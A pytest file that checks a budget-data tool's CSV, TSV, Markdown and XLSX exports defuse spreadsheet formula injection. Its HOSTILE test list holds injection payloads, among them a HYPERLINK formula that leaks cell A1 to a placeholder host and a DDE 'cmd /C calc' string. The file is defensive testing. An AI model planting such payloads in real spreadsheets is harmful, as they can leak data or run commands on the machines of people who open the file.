"""Formula injection: a hostile programs.csv name or note never runs as a formula in Excel or LibreOffice,
through every export format (csv, tsv, md, the data package's CSVs, xlsx); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from tests.helpers import DATA
from tui.cli import main
from tui.core.export import render, table_rows
from tui.core.fmt import Unit
from tui.core.formulas import TRIGGERS, defuse, is_formula_like, restore
from tui.core.loader import load_dataset
from tui.core.loader.csv_reader import COLUMNS
from tui.core.model import Text
from tui.core.table import build_rows, rows_as_tsv
from tui.core.xlsx import workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+1",
    "'=already quoted",
]
TAB_CR = ["\t=1+1", "\r=1+1"]  # set on the loaded nodes: a CSV loader may refuse control characters


def hostile_dir(tmp_path: Path) -> Path:
    target = tmp_path / "data"
    shutil.copytree(DATA, target)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMNS)
    empty = dict.fromkeys(COLUMNS, "")
    writer.writerow({**empty, "id": "h", "kind": "section", "name_ja": "敵対的", "name_en": "Hostile",
                     "source_line": "1", "source_text": "x"}.values())  # fmt: skip
    for n, text in enumerate(HOSTILE):
        row = {**empty, "id": f"h.{n}", "parent": "h", "kind": "program", "name_ja": text, "name_en": text,
               "ministry": "文部科学省", "fy2020": "5", "note_ja": text, "note_en": text,
               "source_line": str(n + 2), "source_text": text}  # fmt: skip
        writer.writerow([row[c] for c in COLUMNS])
    (target / "programs.csv").write_text(buffer.getvalue(), encoding="utf-8")
    return target


def test_the_rule() -> None:
    for text in [*HOSTILE, *TAB_CR]:
        assert is_formula_like(text) or text.startswith("'")
        assert not defuse(text).startswith(TRIGGERS) and restore(defuse(text)) == text
    assert defuse("量子暗号") == "量子暗号" and defuse("A=B") == "A=B" and defuse("") == ""


def spreadsheet_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_csv_and_tsv_quote_every_formula_like_text(
    tmp_path: Path, fmt: str, delimiter: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data = hostile_dir(tmp_path)
    for table in ("programs", "ministries"):  # (the strategy table holds the documents' nodes, not bulk lines)
        assert main(["--data", str(data), "export", "--table", table, "--format", fmt]) == 0
        cells = spreadsheet_cells(capsys.readouterr().out, delimiter)
        for text in HOSTILE if table == "programs" else []:
            assert "'" + text in cells, (table, text)
            assert text not in cells or text.startswith("'"), (table, text)
        # nothing a spreadsheet would run: every cell starting with a trigger is a plain number
        assert all(is_number(c) for c in cells if c.startswith(TRIGGERS)), table


def test_negative_numbers_stay_numbers_in_csv(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--data", str(DATA), "export", "--table", "ministries"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    mext = next(r for r in rows if r["ministry_ja"] == "文部科学省")
    assert mext["change"] == "-652" and mext["change_pct"] == "-3.0"  # seed: 文部科学省 … -652 -3.0%


def test_markdown_quotes_them(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--data", str(hostile_dir(tmp_path)), "export", "--format", "md"]) == 0
    out = capsys.readouterr().out
    assert "| '+cmd\\|' /C calc'!A0 |" in out and "| '@SUM(1+1) |" in out and "| '-2+3 |" in out


def test_the_data_package_quotes_them(tmp_path: Path) -> None:
    target = tmp_path / "package"
    assert main(["--data", str(hostile_dir(tmp_path)), "export", "--format", "datapackage", "-o", str(target)]) == 0
    for name in ("programs.csv",):
        cells = spreadsheet_cells((target / name).read_text(encoding="utf-8"), ",")
        assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
        assert all(is_number(c) for c in cells if c.startswith(TRIGGERS)), name


def test_json_keeps_the_text_as_it_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--data", str(hostile_dir(tmp_path)), "export", "--format", "json"]) == 0
    names = {row["name_ja"] for row in json.loads(capsys.readouterr().out)}
    assert set(HOSTILE) <= names  # not a spreadsheet format: the data's own text


def test_xlsx_stores_them_as_text_exactly_never_as_formulas(tmp_path: Path) -> None:
    target = tmp_path / "hostile.xlsx"
    argv = ["--data", str(hostile_dir(tmp_path)), "export", "--format", "xlsx", "--table", "all", "-o", str(target)]
    assert main(argv) == 0
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = openpyxl.load_workbook(target)
    sheet = workbook["programs"]
    header = [c.value for c in sheet[1]]
    found = {}
    for row in sheet.iter_rows(min_row=2):
        name = row[header.index("name_ja")]
        if name.value in HOSTILE:
            found[name.value] = row
            assert name.data_type == "s"  # a string cell: never evaluated
            assert name.quotePrefix == is_formula_like(name.value)  # stays text when the cell is edited
            assert row[header.index("note")].value == name.value
            assert row[header.index("fy2020_initial")].data_type == "n"
    assert set(found) == set(HOSTILE)
    assert not sheet.cell(2, header.index("name_ja") + 1).quotePrefix  # ordinary text has no such style
    change = [c.value for c in workbook["ministries"][1]].index("change") + 1
    assert any(isinstance(r[change - 1], int | float) and r[change - 1] < 0
               for r in workbook["ministries"].iter_rows(min_row=2, values_only=True))  # fmt: skip


def test_tab_and_cr_at_the_start_of_a_text(tmp_path: Path) -> None:
    dataset = load_dataset(DATA)
    programs = dataset.programs()
    for node, text in zip(programs, TAB_CR, strict=False):
        node.name = Text(text, text)
    columns, rows = table_rows(dataset, "programs")
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        cells = spreadsheet_cells(render(columns, rows, fmt), delimiter)
        for text in TAB_CR:
            assert "'" + text in cells and text not in cells
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(dataset, ["programs"])))["programs"]
    names = [row[4] for row in sheet.iter_rows(min_row=2, max_row=3)]
    # A CR cannot stand in XML text: it is stored as OOXML's escape _x000D_, which Excel decodes
    # (openpyxl reads the escape as it is)
    values = [re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), c.value) for c in names]
    assert values == TAB_CR and all(c.data_type == "s" and c.quotePrefix for c in names)


def test_the_tables_tsv_copy_quotes_them_too(tmp_path: Path) -> None:
    """`Y` copies the table as TSV for pasting into a spreadsheet, which runs formulas as a file would."""
    dataset = load_dataset(hostile_dir(tmp_path))
    parent = dataset.nodes["h"]
    tsv = rows_as_tsv(build_rows(dataset, parent, "ja", Unit.OKU), "ja", Unit.OKU, dataset.meta.fiscal_year)
    names = [line.split("\t")[0] for line in tsv.splitlines()[1:]]
    assert names == [defuse(text) for text in HOSTILE]
    assert all(not name.startswith(TRIGGERS) for name in names)
